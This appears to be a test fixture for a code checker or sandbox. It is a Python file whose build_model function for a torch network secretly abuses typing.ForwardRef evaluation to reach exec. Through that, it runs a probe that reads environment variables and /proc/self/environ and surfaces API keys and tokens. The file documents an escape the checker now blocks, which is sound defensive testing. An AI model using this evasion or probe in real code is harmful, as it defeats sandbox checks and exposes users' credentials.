# expect: static
# message: private attribute `typing.ForwardRef(
# payload: os_environ_probe
# The typing.ForwardRef escape (a string evaluated with any builtin in reach, no forbidden name in
# the code) looking for keys in its environment and in /proc/self/environ. The static checks now
# refuse private attributes of objects not defined in the file; the payload runs at the OS layer as
# os_environ_probe.
import math
import typing

import torch.nn as nn

PROBE = """
import os
seen = [f'{k}={v}' for k, v in os.environ.items()]
try:
    with open(b'/proc/self/environ', 'rb') as f:
        seen += f.read().decode(errors='replace').split(chr(0))
except OSError as exc:
    seen.append(f'/proc/self/environ: {exc.strerror}')
print(*seen, sep=chr(10))
markers = ('sk-', 'hf_', 'OPENAI', 'HF_TOKEN', 'SECRET', 'secret')
raise RuntimeError(f'env-probe found {sorted({s for s in seen if any(m in s for m in markers)})}')
"""


def _builtin(name):
    box = []
    typing.ForwardRef(f"[box.append({name}), int][1]")._evaluate({"box": box}, None, frozenset())
    return box[0]


def build_model(input_shape, num_classes):
    _builtin("exec")(PROBE, {})
    return nn.Sequential(nn.Flatten(), nn.Linear(math.prod(input_shape), num_classes))
